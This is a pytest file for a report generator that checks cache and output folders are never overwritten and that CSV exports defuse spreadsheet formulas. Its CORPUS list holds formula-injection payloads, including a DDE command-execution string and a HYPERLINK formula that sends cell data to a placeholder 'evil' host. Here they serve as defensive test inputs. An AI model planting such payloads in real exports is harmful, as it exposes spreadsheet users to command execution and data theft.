"""Nothing outside the output is deleted or written (issue 14, item 3), and the CSV exports cannot be
turned against a spreadsheet user (item 6): a --cache-dir that is not reportgen's cache is left byte for
byte as it was, a cache or output placed in the site or a store is refused in one line, `summary -o` never
writes into the store, a `default/` folder of the current directory never shadows the bundled theme."""
from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

import mlruns_builder as mb
from reportgen.cli import main
from reportgen.errors import ReportgenError
from reportgen.site import build_site
from reportgen.site.incremental.cache import SiteCache
from reportgen.site.incremental.cache_folder import CacheFolderError, check_cache_folder
from reportgen.site.output import PlacementError
from reportgen.site.pages.exports import export_texts, write_exports
from reportgen.site.theme import Theme, builtin_themes_dir
from site_stores import points, tree_digest


@pytest.fixture
def store(tmp_path) -> Path:
    root = tmp_path / "mlruns"
    exp = mb.experiment(root, "1", "exp")
    mb.run(exp, 1, name="a", params={"lr": "0.1"}, metrics={"loss": points([0.5, 0.4])})
    mb.run(exp, 2, name="b", params={"lr": "0.2"}, metrics={"loss": points([0.6, 0.3])})
    return root


def _user_folder(folder: Path) -> Path:
    """A folder of someone's own files, with the names a reportgen cache uses."""
    for sub in ("images", "units", "memo"):
        mb.write(folder / sub / "keep.txt", f"my {sub}\n")
        mb.write(folder / sub / "nested" / "deep.txt", "mine\n")
    mb.write(folder / ".gitignore", "node_modules/\n")
    mb.write(folder / "index.json", '{"mine": true}')
    return folder


def _build(store: Path, out: Path, **options):
    options.setdefault("static_charts", False)
    return build_site([str(store)], out, **options)


def _cli(*args: str, **kwargs):
    return CliRunner().invoke(main, list(args), **kwargs)


def _one_line_error(result) -> str:
    assert result.exit_code != 0
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("Error: "), result.output
    assert "Traceback" not in result.output
    return lines[0]


# -- the cache folder ------------------------------------------------------------------------------------

def test_a_folder_that_is_not_a_cache_is_left_untouched(tmp_path, store):
    folder = _user_folder(tmp_path / "mine")
    before = tree_digest(folder)
    result = _cli("build", str(store), "-o", str(tmp_path / "site"), "-q", "--cache-dir", str(folder))
    line = _one_line_error(result)
    assert "is not a reportgen cache" in line and str(folder) in line
    assert tree_digest(folder) == before
    assert not (folder / "CACHEDIR.TAG").exists()
    assert not (tmp_path / "site").exists()
    with pytest.raises(CacheFolderError):
        _build(store, tmp_path / "site", cache_dir=folder)
    assert tree_digest(folder) == before


@pytest.mark.parametrize("tag", [
    "Signature: 8a477f597d28d172789f06886806bc55\n# This file is a cache directory tag created by cargo.\n",
    "Signature: 00000000000000000000000000000000\n",
    "",
])
def test_another_tools_cache_tag_is_not_ours(tmp_path, store, tag):
    folder = _user_folder(tmp_path / "theirs")
    mb.write(folder / "CACHEDIR.TAG", tag)
    before = tree_digest(folder)
    with pytest.raises(CacheFolderError, match="not a reportgen cache"):
        _build(store, tmp_path / "site", cache_dir=folder)
    assert tree_digest(folder) == before


def test_a_tag_that_is_a_link_or_a_fifo_is_not_ours(tmp_path):
    real = tmp_path / "real-cache"
    real.mkdir()
    SiteCache(real).save(tmp_path / "some-site")  # a genuine tag
    assert check_cache_folder(real) == real.resolve()
    linked = _user_folder(tmp_path / "linked")
    os.symlink(real / "CACHEDIR.TAG", linked / "CACHEDIR.TAG")
    with pytest.raises(CacheFolderError):
        check_cache_folder(linked)
    fifo = _user_folder(tmp_path / "fifo")
    os.mkfifo(fifo / "CACHEDIR.TAG")
    with pytest.raises(CacheFolderError):  # and does not hang
        check_cache_folder(fifo)


def test_a_file_as_cache_dir_is_refused(tmp_path, store):
    mb.write(tmp_path / "file", "data")
    with pytest.raises(CacheFolderError, match="not a folder"):
        _build(store, tmp_path / "site", cache_dir=tmp_path / "file")
    assert (tmp_path / "file").read_text() == "data"


def test_absent_empty_and_tagged_caches_are_used(tmp_path, store):
    empty = tmp_path / "empty"
    empty.mkdir()
    for folder in (tmp_path / "absent", empty):
        _build(store, tmp_path / "site", cache_dir=folder)
        assert (folder / "CACHEDIR.TAG").is_file() and (folder / ".gitignore").is_file()
        again = _build(store, tmp_path / "site", cache_dir=folder)  # tagged now: used, and reused
        assert again.reused > 0, (folder, again.notes, sorted(os.listdir(folder)))


def test_a_build_that_fails_halfway_leaves_a_cache_the_next_build_accepts(tmp_path, store, monkeypatch):
    """The cache folder is tagged as it is made, before the build writes into it: a failed build (here: the
    page rendering) leaves no untagged folder that the next build would refuse."""
    from reportgen.site.builder import SiteBuilder

    cache = tmp_path / "cache"

    def fail(self):
        raise ReportgenError("rendering failed")

    monkeypatch.setattr(SiteBuilder, "build", fail)
    with pytest.raises(ReportgenError, match="rendering failed"):
        build_site([str(store)], tmp_path / "site", cache_dir=cache, static_charts=False)
    assert any(cache.iterdir()) and (cache / "CACHEDIR.TAG").is_file()
    monkeypatch.undo()
    build_site([str(store)], tmp_path / "site", cache_dir=cache, static_charts=False)
    assert (tmp_path / "site" / "index.html").is_file()


def test_cache_inside_the_output_is_refused(tmp_path, store):
    site = tmp_path / "site"
    _build(store, site)
    before = tree_digest(site)
    for cache in (site / ".cache", site, tmp_path):  # inside, equal, around
        with pytest.raises(PlacementError, match="overlaps the output"):
            _build(store, site, cache_dir=cache)
    assert tree_digest(site) == before
    # Through a symlink too: the real paths are compared.
    os.symlink(site, tmp_path / "alias")
    result = _cli("build", str(store), "-o", str(site), "-q", "--cache-dir", str(tmp_path / "alias" / "cache"))
    assert "overlaps the output" in _one_line_error(result)
    assert tree_digest(site) == before


def test_cache_inside_a_store_is_refused(tmp_path, store):
    before = tree_digest(store)
    with pytest.raises(PlacementError, match="overlaps the store"):
        _build(store, tmp_path / "site", cache_dir=store / ".reportgen-cache")
    assert tree_digest(store) == before and not (store / ".reportgen-cache").exists()


@pytest.mark.parametrize("where", ["inside", "equal", "around", "linked"])
def test_output_inside_or_around_a_store_is_refused(tmp_path, store, where):
    os.symlink(store, tmp_path / "link")
    out = {"inside": store / "site", "equal": store, "around": tmp_path, "linked": tmp_path / "link" / "site"}[where]
    before = tree_digest(store)
    for options in ({}, {"cache_dir": tmp_path / "cache"}):
        with pytest.raises(PlacementError, match="overlaps the store"):
            _build(store, out, **options)
    result = _cli("build", str(store), "-o", str(out), "-q", "--no-cache")
    assert "overlaps the store" in _one_line_error(result)
    assert tree_digest(store) == before
    assert not (tmp_path / "cache").exists()


# -- summary -o ------------------------------------------------------------------------------------------

def test_summary_output_into_the_store_is_refused(tmp_path, store):
    meta = store / "1" / "meta.yaml"
    before = tree_digest(store)
    os.symlink(store / "1", tmp_path / "exp-link")
    for target in (meta, store / "summary.md", tmp_path / "exp-link" / "meta.yaml"):
        result = _cli("summary", str(store), "-o", str(target))
        assert "inside the store" in _one_line_error(result)
    result = _cli("summary", str(store), "--images", str(store / "img"), "-o", str(tmp_path / "s.md"))
    assert "inside the store" in _one_line_error(result)
    assert tree_digest(store) == before
    ok = _cli("summary", str(store), "-o", str(tmp_path / "summary.md"))
    assert ok.exit_code == 0, ok.output
    assert (tmp_path / "summary.md").read_text(encoding="utf-8").strip()


def test_summary_output_over_a_sqlite_store_is_refused(tmp_path):
    db = mb.mlflow_sqlite(tmp_path / "mlflow.db")
    before = db.read_bytes()
    result = _cli("summary", f"sqlite:///{db}", "-o", str(db))
    assert "inside the store" in _one_line_error(result)
    assert db.read_bytes() == before


# -- themes ----------------------------------------------------------------------------------------------

def test_a_default_folder_in_the_current_directory_does_not_shadow_the_theme(tmp_path, store, monkeypatch):
    (tmp_path / "default").mkdir()  # an unrelated folder, no templates
    mb.write(tmp_path / "default" / "notes.txt", "mine")
    monkeypatch.chdir(tmp_path)
    assert Theme.load(None).folders[0] == builtin_themes_dir() / "default"
    assert Theme.load("default").folders[0] == builtin_themes_dir() / "default"
    result = _cli("build", str(store), "-o", str(tmp_path / "site"), "-q", "--no-cache")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "site" / "index.html").is_file()


def test_a_theme_folder_is_given_as_a_path(tmp_path, monkeypatch):
    mb.write(tmp_path / "mytheme" / "templates" / "_footer.html", "<footer>mine</footer>\n")
    monkeypatch.chdir(tmp_path)
    for given in ("./mytheme", str(tmp_path / "mytheme"), "mytheme/"):
        assert Theme.load(given).folders[0] == (tmp_path / "mytheme").resolve()
    with pytest.raises(ReportgenError, match=r"unknown theme 'mytheme'.*\./mytheme"):
        Theme.load("mytheme")


# -- CSV exports -----------------------------------------------------------------------------------------

CORPUS = [
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "a\rb", "\t=1", "\r=1+1", "\n=1", "x\r=HYPERLINK(\"h\")",
    "=HYPERLINK(\"http://evil/?\"&A1,\"click\")", "-2+3+cmd|' /C calc'!A0", "a,b", 'say "hi"', "line\nbreak",
    "a\r\n=1", "+", "-", "=", "@",
]
NUMBERS = ["-0.5", "+1e-3", "-3", "1.5E+10", "-.5", "0"]


def _spreadsheet_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value", CORPUS)
def test_csv_cell_is_one_cell_and_never_a_formula(value):
    text, _ = export_texts(["run_id", "params.x", "after"], [["r1", value, "end"]])
    rows = _spreadsheet_cells(text)
    assert rows[0] == ["run_id", "params.x", "after"]
    assert len(rows) == 2, f"{value!r} started a row of its own: {text!r}"
    assert rows[1][0] == "r1" and rows[1][2] == "end"
    cell = rows[1][1]
    assert cell[0] not in "=+-@\t\r\n", cell
    assert cell.lstrip("'") == value


def test_a_column_of_the_corpus_reads_back_cell_for_cell():
    text, _ = export_texts(["v"], [[value] for value in CORPUS])
    assert [row for row in _spreadsheet_cells(text)[1:]] == [[safe] for safe in map(_quoted_text, CORPUS)]


def _quoted_text(value: str) -> str:
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") else value


@pytest.mark.parametrize("value", NUMBERS)
def test_plain_numbers_stay_numbers(value):
    text, _ = export_texts(["v", "f"], [[value, float(value)]])
    assert _spreadsheet_cells(text)[1] == [value, repr(float(value))]


def test_runs_csv_of_a_build_is_safe(tmp_path):
    root = tmp_path / "mlruns"
    exp = mb.experiment(root, "1", "exp")
    for index, value in enumerate(CORPUS, start=1):
        mb.run(exp, index, name=value.replace("\n", " ").replace("\r", " ") or "x", params={"p": value},
               tags={"t": value}, metrics={"m": points([-0.5])})
    _build(root, tmp_path / "site", artifacts=False)
    exports = list((tmp_path / "site").rglob("runs.csv"))
    assert len(exports) == 1
    rows = _spreadsheet_cells(exports[0].read_bytes().decode("utf-8"))
    header = rows[0]
    assert len(rows) == len(CORPUS) + 1
    p, t, m = header.index("params.p"), header.index("tags.t"), header.index("metrics.m")
    assert sorted(row[p].lstrip("'") for row in rows[1:]) == sorted(CORPUS)
    for row in rows[1:]:
        assert len(row) == len(header)
        assert row[p][:1] not in ("=", "+", "-", "@", "\t", "\r", "\n") and row[t][:1] not in ("=", "+", "-", "@")
        assert row[m] == "-0.5"


def test_write_exports_writes_what_export_texts_gives(tmp_path):
    class _Info:
        def __init__(self, run_id):
            self.run_id, self.run_name, self.status = run_id, "=1+1", "FINISHED"
            self.start_time, self.end_time, self.user_id = 1, 2, "@me"

    class _Data:
        params, metrics, tags = {"p": "a\rb"}, {"m": -1.0}, {}

    class _Run:
        def __init__(self, run_id):
            self.info, self.data, self.parent_run_id = _Info(run_id), _Data(), None

    class _Exp:
        runs = [_Run("r1"), _Run("r2")]

    write_exports(tmp_path, _Exp(), {"params": ["p"], "metrics": ["m"], "tags": []})
    rows = _spreadsheet_cells((tmp_path / "runs.csv").read_bytes().decode("utf-8"))
    assert [row[1] for row in rows[1:]] == ["'=1+1", "'=1+1"]
    assert [row[5] for row in rows[1:]] == ["'@me", "'@me"]
    assert [row[7] for row in rows[1:]] == ["a\rb", "a\rb"]
    assert [row[8] for row in rows[1:]] == ["-1.0", "-1.0"]
